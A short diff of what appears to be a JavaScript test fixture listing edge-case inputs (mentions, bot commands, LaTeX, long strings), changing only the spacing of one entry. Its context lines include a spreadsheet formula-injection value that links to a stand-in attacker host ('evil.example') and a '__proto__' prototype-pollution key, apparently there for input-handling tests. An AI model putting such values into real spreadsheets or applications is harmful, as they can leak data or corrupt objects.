@@ -21,7 +21,7 @@ const paths = [
   ['H58: mentions and references', '/Qzx@org/team #1 GH-1 Fixes #2'],
   ['H59: commands of bots', 'Qzx\n/agent new\n@dependabot rebase\nbors r+'],
   ['mathematics', '/Qzx$\\frac{1}{2}$$x$$'],
-  ['2,000 characters', `/Qzx ${'long/'.repeat(400)}`],
+  ['2,000 characters', `/Qzx${'long/'.repeat(400)}`],
   ['a formula', '=HYPERLINK("https://evil.example?Qzx","x")'],
   ['a formula with @', '@SUM(Qzx)'],
   ['an object', '__proto__'],
